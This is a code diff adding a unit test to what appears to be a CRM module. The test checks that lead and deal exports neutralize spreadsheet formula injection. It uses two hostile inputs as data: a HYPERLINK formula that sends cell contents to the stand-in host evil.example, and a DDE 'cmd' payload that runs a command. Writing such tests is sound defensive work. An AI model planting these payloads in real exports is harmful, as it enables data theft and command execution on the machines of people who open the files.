@@ -198,6 +198,29 @@ class KrayaCrmTestCase(CompanyTestMixin, ModuleTestCase):
                 with self.subTest(view=view.name, field=name):
                     self.assertIn(widget, SAO_LIST_WIDGETS)
 
+    @with_transaction()
+    def test_desk_export_of_leads_and_deals_is_formula_safe(self):
+        pool = Pool()
+        Lead = pool.get('crm.lead')
+        Deal = pool.get('crm.deal')
+        hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+        company = create_company()
+        with set_company(company):
+            lead, = Lead.create([{'name': hostile, 'phone': '09876543210'}])
+            deal, = Deal.create([{'title': "-2+3+cmd|' /C calc'!A0",
+                        'lead': lead.id, 'value': Decimal(500000)}])
+            self.assertEqual(
+                Lead.export_data([lead], ['name', 'phone', 'rec_name'],
+                    header=True),
+                [['Contact Name', 'Phone', 'Record Name'],
+                    ["'" + hostile, "'+919876543210", "'" + hostile]])
+            (name, value, lead_name), = Deal.export_data(
+                [deal], ['title', 'value', 'lead'])
+            self.assertEqual((name, lead_name),
+                ("'-2+3+cmd|' /C calc'!A0", "'" + hostile))
+            # Numbers stay numbers for the spreadsheet to sum.
+            self.assertEqual(value, deal.value)
+
 
 # Sao.View.TreeXMLViewParser.WIDGETS in sao 8.0
 SAO_LIST_WIDGETS = {
